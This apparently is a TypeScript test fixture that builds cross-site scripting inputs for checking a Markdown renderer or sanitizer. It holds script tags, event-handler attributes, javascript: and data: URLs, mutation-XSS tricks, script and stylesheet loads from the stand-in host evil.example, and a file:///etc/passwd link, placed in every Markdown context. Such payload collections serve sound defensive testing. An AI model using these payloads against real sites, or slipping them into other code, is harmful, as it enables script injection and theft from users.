/** What the attacks would run: a page in which it was called has been broken into. */
export const run = "alert(1)";
/** Markup that runs something wherever it gets through. */
export const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img/src='x'/onerror=${run}//`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#09;script:${run}">x</a>`,
  `<template><script>${run}</script></template>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<xmp><script>${run}</script></xmp>`,
  `<textarea></textarea><script>${run}</script>`,
  `<title></title><script>${run}</script>`,
];
/** Addresses that run something when they are followed. */
export const schemes: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `\u0001javascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `https://x.example/" onmouseover="${run}`,
];
const places: readonly ((evil: string) => string)[] = [
  (evil) => evil,
  (evil) => `text ${evil} text`,
  (evil) => `# ${evil}`,
  (evil) => `- ${evil}\n- b`,
  (evil) => `1. ${evil}`,
  (evil) => `> ${evil}`,
  (evil) => `**${evil}**`,
  (evil) => `| ${evil} | b |\n| c | d |`,
  (evil) => `| ${evil} |\n|---|\n| ${evil} |`,
  (evil) => `[${evil}](/a)`,
  (evil) => `\`${evil}\``,
  (evil) => `\`\`\`${evil}\n${evil}\n\`\`\``,
  (evil) => `    ${evil}`,
  (evil) => `a[^1]\n\n[^1]: ${evil}`,
];
const links: readonly ((evil: string) => string)[] = [
  (evil) => `[x](${evil})`,
  (evil) => `[x](<${evil}>)`,
  (evil) => `[x](/a "${evil}")`,
  (evil) => `![x](${evil})`,
  (evil) => `<${evil}>`,
  (evil) => `[x][1]\n\n[1]: ${evil}`,
  (evil) => `[x]: ${evil}\n\n[x]`,
  (evil) => evil,
];

/** Each piece of markup in each place of an article, and each address in each kind of link. */
export const attacks: readonly string[] = [
  ...places.flatMap((place) => markup.map(place)),
  ...links.flatMap((link) => schemes.map(link)),
  ...['```a"onmouseover=alert(1)//\nx\n```', '~~~x"autofocus/onfocus=alert(1)/\nx\n~~~'],
];

/** What random articles are made of, beside the attacks themselves. */
export const splinters: readonly string[] = [
  ...attacks,
  ...["<", ">", '"', "'", "`", "|", "\n", "\n\n", "](", "![", "&#x0;", "\u0000", "    ", "</"],
];
